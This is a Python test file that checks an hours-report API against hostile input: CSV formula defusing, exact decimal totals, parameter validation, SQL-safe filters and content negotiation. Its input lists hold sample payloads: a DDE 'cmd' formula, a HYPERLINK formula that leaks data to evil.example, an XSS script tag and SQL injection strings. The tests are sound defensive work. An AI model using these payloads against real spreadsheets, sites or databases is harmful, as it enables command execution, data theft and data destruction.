"""Hours reports under hostile input: CSV quoting and formula defusing with hostile project names and user ids,
totals against sums computed by hand (decimal arithmetic, no floating point), and bad parameters, each with its exact
status and a problem body, and nothing changed."""
import csv
import decimal
import io
import json
import uuid

import pytest

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\"quoted\", with comma",
    "semi;colon",
    "<script>alert(1)</script>",
    "Robert'); DROP TABLE timesheets;--",
    "Ünïcødé ✓ 漢字",
    "plain",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def upload(dev, tokens, entries):
    reply = dev.api.call("POST", "/timesheets/upload", tokens["machine"], json_body=entries)
    assert reply.status_code == 201, reply.text[:300]
    return [item["id"] for item in reply.json()["items"]]


def report(dev, tokens, query, accept=None, role="manager"):
    headers = {"Accept": accept} if accept else {}
    return dev.api.call("GET", "/reports/hours?" + query, tokens[role], headers=headers)


def expected_cell(text):
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def test_csv_quotes_and_defuses_hostile_names(dev, tokens):
    tag = uuid.uuid4().hex[:8]
    users = [f"=evil-{tag}@example.com", f"plain-{tag}", f"-minus-{tag}", f"+plus,{tag}"]
    entries = [{"user_id": user, "date": f"2011-03-{index + 1:02d}", "project": project, "hours": 1}
               for index, project in enumerate(HOSTILE) for user in users]
    ids = upload(dev, tokens, entries)
    assert len(ids) == len(HOSTILE) * len(users)
    for user in users:
        reply = report(dev, tokens, "from=2011-03-01&to=2011-03-31&group_by=user,project&status=pending&user_id="
                       + requests_quote(user), accept="text/csv")
        assert reply.status_code == 200, reply.text[:300]
        assert reply.headers["content-type"] == "text/csv; charset=utf-8"
        assert reply.headers["content-disposition"] == 'attachment; filename="hours-2011-03-01-2011-03-31.csv"'
        raw = reply.content.decode("utf-8")
        assert raw.startswith("user_id,project,hours,entries\r\n") and raw.endswith("\r\n")
        rows = list(csv.reader(io.StringIO(raw, newline="")))
        assert rows[0] == ["user_id", "project", "hours", "entries"]
        # Sorted by the names' bytes, as the JSON rows are.
        got = {(row[0], row[1]): (row[2], row[3]) for row in rows[1:]}
        want = {(expected_cell(user), expected_cell(project)): ("1", "1") for project in HOSTILE}
        assert got == want
        assert [row[1] for row in rows[1:]] == [expected_cell(p) for p in sorted(HOSTILE, key=lambda p: p.encode())]
        # No cell a spreadsheet would run: every cell starts with something else than a formula character.
        assert not [cell for row in rows[1:] for cell in row if cell.startswith(FORMULA_STARTS)]
        # RFC 4180: the cells with a quote or comma are quoted, their quotes doubled.
        assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"' in raw
        assert '"""quoted"", with comma"' in raw
        if "," in user:
            assert f'"\'{user}"' in raw
        # The JSON report keeps the names exactly as they were stored.
        data = report(dev, tokens, "from=2011-03-01&to=2011-03-31&status=pending&user_id=" + requests_quote(user)).json()
        assert sorted(row["project"] for row in data["rows"]) == sorted(HOSTILE)
        assert {row["user_id"] for row in data["rows"]} == {user}


def requests_quote(text):
    from urllib.parse import quote
    return quote(text, safe="")


def test_totals_match_sums_computed_by_hand(dev, tokens):
    tag = uuid.uuid4().hex[:8]
    alice, bob = f"alice-{tag}", f"bob-{tag}"
    project = f"Totals {tag}"
    # Hours whose float sums drift (0.1 + 0.2, 7.35 + 0.65) across an ISO week boundary: 2012-01-01 is a Sunday
    # (2011-W52) and 2012-01-02 starts 2012-W01.
    plan = [
        (alice, "2012-01-01", "7.35", "approved"), (alice, "2012-01-02", "0.65", "approved"),
        (alice, "2012-01-02", "0.1", "approved"), (alice, "2012-01-03", "0.2", "approved"),
        (alice, "2012-01-03", "3.33", "pending"), (bob, "2012-01-02", "23.99", "approved"),
        (bob, "2012-01-04", "0.01", "rejected"), (bob, "2012-01-05", "12.5", "approved"),
        (bob, "2012-02-01", "4", "approved"),  # outside the range asked for
    ]
    ids = upload(dev, tokens, [{"user_id": u, "date": d, "project": project, "hours": h} for u, d, h, _ in plan])
    for entry_id, (_, _, _, status) in zip(ids, plan):
        if status == "approved":
            assert dev.api.call("PUT", f"/approvals/{entry_id}", tokens["manager"]).status_code == 200
        elif status == "rejected":
            assert dev.api.call("POST", f"/approvals/{entry_id}/reject", tokens["manager"],
                                json_body={"reason": "no"}).status_code == 200
    base = "from=2012-01-01&to=2012-01-31&project=" + requests_quote(project)

    def expect(query, keys, status_filter):
        totals = {}
        for user, day, hours, status in plan:
            if day > "2012-01-31" or (status_filter != "all" and status != status_filter):
                continue
            week = "2011-W52" if day == "2012-01-01" else "2012-W01"
            key = tuple({"user_id": user, "project": project, "week": week, "day": day}[k] for k in keys)
            hours_sum, count = totals.get(key, (decimal.Decimal(0), 0))
            totals[key] = (hours_sum + decimal.Decimal(hours), count + 1)
        reply = report(dev, tokens, base + query)
        assert reply.status_code == 200, reply.text[:300]
        body = json.loads(reply.text, parse_float=decimal.Decimal)
        got = [(tuple(row[k] for k in keys), decimal.Decimal(row["hours"]), row["entries"]) for row in body["rows"]]
        assert got == [(key, total, count) for key, (total, count) in sorted(totals.items())]
        assert decimal.Decimal(body["total_hours"]) == sum((t for t, _ in totals.values()), decimal.Decimal(0))
        return body

    body = expect("&group_by=user", ["user_id"], "approved")
    # 7.35 + 0.65 + 0.1 + 0.2 is exactly 8.3; 23.99 + 12.5 is 36.49; written as exact decimals.
    assert '"hours":8.3,' in report(dev, tokens, base + "&group_by=user").text
    assert body["total_hours"] == decimal.Decimal("44.79")
    expect("&group_by=week,user", ["week", "user_id"], "approved")
    expect("&group_by=user,day&status=all", ["user_id", "day"], "all")
    expect("&group_by=day&status=pending", ["day"], "pending")
    expect("&group_by=project&status=rejected", ["project"], "rejected")
    # The CSV sums the same.
    rows = list(csv.reader(io.StringIO(report(dev, tokens, base + "&group_by=user", "text/csv").text, newline="")))
    assert rows[1:] == [[alice, "8.3", "4"], [bob, "36.49", "2"]]


BAD = [
    # (query, status, code, fields)
    ("", 400, "validation_failed", ["from", "to"]),
    ("from=2012-01-01", 400, "validation_failed", ["to"]),
    ("from=2012-01-01&to=2012-13-01", 400, "validation_failed", ["to"]),
    ("from=2012-01-31&to=2012-01-01", 400, "validation_failed", ["to"]),
    ("from=2012-01-01&to=2013-01-01", 400, "validation_failed", ["to"]),
    ("from=2012-01-01&to=2012-01-31&group_by=user,user", 400, "validation_failed", ["group_by"]),
    ("from=2012-01-01&to=2012-01-31&group_by=month", 400, "validation_failed", ["group_by"]),
    ("from=2012-01-01&to=2012-01-31&group_by=" + ",".join(["user"] * 5000), 400, "validation_failed", ["group_by"]),
    ("from=2012-01-01&to=2012-01-31&group_by=user;DROP TABLE timesheets", 400, "validation_failed", ["group_by"]),
    ("from=2012-01-01&to=2012-01-31&status=ALL", 400, "validation_failed", ["status"]),
    ("from=2012-01-01&to=2012-01-31&project=" + "x" * 201, 400, "validation_failed", ["project"]),
    ("from=2012-01-01&to=2012-01-31&user_id=", 400, "validation_failed", ["user_id"]),
    ("from=2012-01-01&to=2012-01-31&project=%00", 400, "validation_failed", ["project"]),
    ("from=2012-01-01%00&to=2012-01-31", 400, "validation_failed", ["from"]),
    ("from=%FF&to=2012-01-31", 400, "malformed_query", []),
    ("from=9999999999-01-01&to=2012-01-31", 400, "validation_failed", ["from"]),
]


@pytest.mark.parametrize("query,status,code,fields", BAD, ids=[b[0][:60] or "empty" for b in BAD])
def test_bad_parameters_are_refused_with_a_problem(dev, tokens, query, status, code, fields):
    before = dev.snapshot()
    reply = report(dev, tokens, query)
    assert reply.status_code == status, reply.text[:300]
    assert reply.headers["content-type"] == "application/problem+json"
    problem = reply.json()
    assert problem["code"] == code and problem["status"] == status and problem["detail"]
    assert [e["field"] for e in problem.get("errors", [])] == fields
    assert len(reply.content) < 8192, "a hostile parameter gets a short answer"
    assert dev.snapshot() == before


@pytest.mark.parametrize("value", ["' OR 1=1 --", "x' UNION SELECT user_id FROM timesheets --", "%", "_", "*"])
def test_filters_are_values_not_sql(dev, tokens, value):
    for name in ("project", "user_id"):
        reply = report(dev, tokens, f"from=2000-01-01&to=2000-12-31&status=all&{name}=" + requests_quote(value))
        assert reply.status_code == 200, reply.text[:300]
        assert reply.json()["rows"] == [] and reply.json()["total_hours"] == 0


@pytest.mark.parametrize("accept,status", [
    ("application/xml", 406), ("text/html", 406), ("text/csv;q=0", 406), ("x" * 4000, 406),
    ("text/csv;q=abc", 406), ("*/*", 200), ("text/*;q=0.1, application/json;q=0.2", 200), ("", 200),
])
def test_accept_is_negotiated(dev, tokens, accept, status):
    reply = report(dev, tokens, "from=2012-01-01&to=2012-01-31", accept=accept)
    assert reply.status_code == status, reply.text[:300]
    if status == 406:
        assert reply.headers["content-type"] == "application/problem+json"
        assert reply.json()["code"] == "not_acceptable"


@pytest.mark.parametrize("role,status", [("employee", 403), ("contractor", 403), ("machine", 403), ("manager", 200)])
def test_only_read_reports_reads_reports(dev, tokens, role, status):
    reply = report(dev, tokens, "from=2012-01-01&to=2012-01-31", role=role)
    assert reply.status_code == status
    if status == 403:
        assert 'scope="read:reports"' in reply.headers["www-authenticate"]
